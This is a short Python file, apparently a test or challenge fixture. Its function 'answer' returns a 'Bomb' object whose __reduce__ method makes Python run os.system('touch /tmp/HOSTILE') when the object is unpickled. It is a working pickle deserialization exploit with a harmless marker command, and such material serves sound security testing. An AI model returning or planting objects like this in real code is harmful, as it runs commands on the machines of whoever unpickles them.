"""Returns an object that runs code in whoever unpickles it."""


class Bomb:
    def __reduce__(self):
        import os

        return os.system, ("touch /tmp/HOSTILE",)


def answer(x):
    return Bomb()
